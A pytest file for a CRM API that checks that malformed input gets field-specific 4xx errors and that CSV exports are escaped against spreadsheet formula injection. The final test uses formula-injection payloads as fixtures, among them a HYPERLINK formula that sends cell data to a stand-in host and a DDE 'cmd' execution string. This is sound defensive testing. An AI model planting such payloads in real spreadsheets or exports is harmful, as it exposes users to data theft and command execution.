"""Bad input a rep can type gets a 4xx naming the field, never a 500: NUL characters,
an explicit null for a field that cannot be empty, numbers out of range, unknown
currencies, forged cursors, giant or broken CSV files; and CSV we write never runs
as a formula in a spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import io

import httpx
import pytest

from tests.factories import crm
from tests.factories.auth import signup

IMPORTS = "/api/v1/imports"


def _fields(r: httpx.Response) -> list[str]:
    assert 400 <= r.status_code < 500, r.text
    return [d["field"] for d in r.json()["error"]["details"]]


class TestNulCharacters:
    @pytest.mark.parametrize(
        ("path", "body", "field"),
        [
            (crm.ACCOUNTS, {"name": "Ac\x00me"}, "body.name"),
            (crm.CONTACTS, {"last_name": "Do\x00e"}, "body.last_name"),
            ("/api/v1/views", {"object_type": "account", "name": "V\x00"}, "body.name"),
            (
                "/api/v1/views",
                {"object_type": "account", "name": "V", "filters": ["name:eq:\x00"]},
                "body.filters",
            ),
            (
                "/api/v1/pipelines",
                {"name": "P", "stages": [
                    {"name": "Op\x00en", "probability": 10},
                    {"name": "Won", "probability": 100, "outcome": "won"},
                    {"name": "Lost", "probability": 0, "outcome": "lost"},
                ]},
                "body.stages",
            ),
            (crm.CONTACTS, {"last_name": "L", "custom_fields": {"tier": "G\x00"}}, "body.custom_fields"),
        ],
    )  # fmt: skip
    async def test_a_nul_in_a_body_is_refused_by_name(
        self, api: httpx.AsyncClient, path: str, body: dict, field: str
    ) -> None:
        admin = (await signup(api)).admin
        r = await api.post(path, json=body, headers=admin.headers)
        assert r.status_code == 422, r.text
        assert field in _fields(r)

    @pytest.mark.parametrize(
        ("url", "field"),
        [
            ("/api/v1/search?q=a%00b", "query.q"),
            (f"{crm.ACCOUNTS}?filter=name:eq:%00", "query.filter.0"),
        ],
    )
    async def test_a_nul_in_a_query_is_refused_by_name(
        self, api: httpx.AsyncClient, url: str, field: str
    ) -> None:
        admin = (await signup(api)).admin
        r = await api.get(url, headers=admin.headers)
        assert r.status_code == 422, r.text
        assert _fields(r) == [field]


class TestNullForFieldsThatCannotBeEmpty:
    @pytest.mark.parametrize(
        ("kind", "changes", "field"),
        [
            ("account", {"name": None}, "body.name"),
            ("contact", {"last_name": None}, "body.last_name"),
            ("contact", {"do_not_contact": None}, "body.do_not_contact"),
            ("opportunity", {"currency": None}, "body.currency"),
            ("opportunity", {"name": None}, "body.name"),
        ],
    )
    async def test_null_in_a_patch_is_refused_and_changes_nothing(
        self, api: httpx.AsyncClient, kind: str, changes: dict, field: str
    ) -> None:
        admin = (await signup(api)).admin
        make = {"account": crm.account, "contact": crm.contact, "opportunity": crm.opportunity}
        record = await make[kind](api, admin)
        path = {"account": crm.ACCOUNTS, "contact": crm.CONTACTS, "opportunity": crm.OPPORTUNITIES}
        r = await api.patch(f"{path[kind]}/{record['id']}", json=changes, headers=admin.headers)
        assert _fields(r) == [field]
        again = await api.get(f"{path[kind]}/{record['id']}", headers=admin.headers)
        assert again.json()["version"] == record["version"]
        bulk = await api.post(
            f"{path[kind]}/bulk-update",
            json={"ids": [record["id"]], "changes": changes},
            headers=admin.headers,
        )
        assert _fields(bulk) == [field.replace("body.", "body.changes.")]

    async def test_null_in_other_patches_is_refused(self, api: httpx.AsyncClient) -> None:
        admin = (await signup(api)).admin
        view = (
            await api.post(
                "/api/v1/views", json={"object_type": "account", "name": "V"}, headers=admin.headers
            )
        ).json()
        for name in ("name", "filters", "columns"):
            r = await api.patch(
                f"/api/v1/views/{view['id']}", json={name: None}, headers=admin.headers
            )
            assert _fields(r) == [f"body.{name}"]
        field = await crm.custom_field(api, admin, "tier", "select", options=["A"])
        for name in ("options", "position", "label", "required"):
            r = await api.patch(
                f"{crm.CUSTOM_FIELDS}/{field['id']}", json={name: None}, headers=admin.headers
            )
            assert _fields(r) == [f"body.{name}"]
        for name in ("role", "name"):
            r = await api.patch(
                f"/api/v1/users/{admin.user_id}", json={name: None}, headers=admin.headers
            )
            assert _fields(r) == [f"body.{name}"]


class TestNumbersOutOfRange:
    @pytest.mark.parametrize(
        "query",
        [
            "filter=size:gte:" + "9" * 30,
            "filter=amount:gte:1e999999",
            "filter=size:in:1," + "9" * 40,
        ],
    )
    async def test_a_huge_number_in_a_filter_is_a_422(
        self, api: httpx.AsyncClient, query: str
    ) -> None:
        admin = (await signup(api)).admin
        path = crm.OPPORTUNITIES if "amount" in query else crm.ACCOUNTS
        r = await api.get(f"{path}?{query}", headers=admin.headers)
        assert _fields(r) == ["query.filter"]
        assert "out of range" in r.json()["error"]["details"][0]["message"]

    async def test_a_custom_field_position_beyond_range_is_a_422(
        self, api: httpx.AsyncClient
    ) -> None:
        admin = (await signup(api)).admin
        r = await api.post(
            crm.CUSTOM_FIELDS,
            json={"object_type": "account", "key": "k", "label": "K", "field_type": "text",
                  "position": 2**31},
            headers=admin.headers,
        )  # fmt: skip
        assert _fields(r) == ["body.position"]

    async def test_an_unknown_currency_is_refused(self, api: httpx.AsyncClient) -> None:
        admin = (await signup(api)).admin
        r = await api.post(
            crm.OPPORTUNITIES, json={"name": "D", "currency": "ZZZ"}, headers=admin.headers
        )
        assert _fields(r) == ["body.currency"]
        ok = await crm.opportunity(api, admin, currency="CHF")
        assert ok["currency"] == "CHF"

    async def test_a_forged_cursor_is_refused(self, api: httpx.AsyncClient) -> None:
        import base64
        import json

        admin = (await signup(api)).admin
        for _ in range(3):
            await crm.account(api, admin, "X")
        page = (await api.get(f"{crm.ACCOUNTS}?limit=1", headers=admin.headers)).json()
        assert page["next_cursor"]
        forged = base64.urlsafe_b64encode(json.dumps([2**70, "x\x00"]).encode()).decode()
        for cursor in (forged, page["next_cursor"][:-2] + "AA"):
            r = await api.get(f"{crm.ACCOUNTS}?limit=1&cursor={cursor}", headers=admin.headers)
            assert _fields(r) == ["query.cursor"]


async def _import(api: httpx.AsyncClient, headers: dict, text: str) -> httpx.Response:
    return await api.post(
        IMPORTS,
        files={"file": ("people.csv", text.encode(), "text/csv")},
        data={"mapping": '{"Last name": "last_name", "Email": "email"}', "object_type": "contact"},
        headers=headers,
    )


async def _finished(api: httpx.AsyncClient, headers: dict, import_id: str) -> dict:
    for _ in range(400):
        job = (await api.get(f"{IMPORTS}/{import_id}", headers=headers)).json()
        if job["status"] in ("done", "failed", "interrupted"):
            return dict(job)
        await asyncio.sleep(0.05)
    raise AssertionError("the import did not finish")


class TestCsvFiles:
    async def test_a_nul_cell_fails_its_row_only(self, api: httpx.AsyncClient) -> None:
        admin = (await signup(api)).admin
        r = await _import(
            api, admin.headers, "Last name,Email\nGood,good@example.com\nBa\x00d,bad@example.com\n"
        )
        assert r.status_code == 202, r.text
        job = await _finished(api, admin.headers, r.json()["id"])
        assert (job["status"], job["created_count"], job["error_count"]) == ("done", 1, 1)
        assert job["failure"] is None
        errors = (await api.get(f"{IMPORTS}/{job['id']}/errors", headers=admin.headers)).json()
        assert [(e["row_number"], e["field"]) for e in errors["items"]] == [(3, "Last name")]
        assert "NUL" in errors["items"][0]["message"]

    async def test_a_file_with_too_many_columns_or_a_giant_header_is_refused(
        self, api: httpx.AsyncClient
    ) -> None:
        admin = (await signup(api)).admin
        wide = ",".join(f"c{i}" for i in range(600)) + "\n" + ",".join("x" * 600) + "\n"
        long = "A" * (300 * 1024) + "\nx\n"
        for text, words in ((wide, "600 columns"), (long, "longer than 256 KiB")):
            r = await api.post(
                f"{IMPORTS}/preview",
                files={"file": ("big.csv", text.encode(), "text/csv")},
                data={"object_type": "contact"},
                headers=admin.headers,
            )
            assert _fields(r) == ["file"]
            assert words in r.json()["error"]["message"]

    async def test_what_we_write_never_runs_as_a_formula(self, api: httpx.AsyncClient) -> None:
        admin = (await signup(api)).admin
        formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
                    "+1+1", "-2+3", "@SUM(A1)"]  # fmt: skip
        for name in formulas:
            await crm.account(api, admin, name)
        exported = (await api.get("/api/v1/exports/account.csv", headers=admin.headers)).text
        names = [row[1] for row in csv.reader(io.StringIO(exported.lstrip("\ufeff")))][1:]
        assert sorted(names) == sorted("'" + n for n in formulas)  # shown as text, intact
        evil = [*formulas, "\tTab", "\rReturn"]  # the API trims names; a file keeps them
        upload = io.StringIO()
        writer = csv.writer(upload)
        writer.writerow(["Last name", "Email"])
        writer.writerows([n, "not-an-email"] for n in evil)  # each row refused: a bad email
        r = await _import(api, admin.headers, upload.getvalue())
        assert r.status_code == 202, r.text
        job = await _finished(api, admin.headers, r.json()["id"])
        assert job["error_count"] == len(evil)
        report = (await api.get(f"{IMPORTS}/{job['id']}/errors.csv", headers=admin.headers)).text
        cells = [c for row in csv.reader(io.StringIO(report.lstrip("\ufeff"))) for c in row]
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
        assert "'=cmd|' /C calc'!A0" in cells
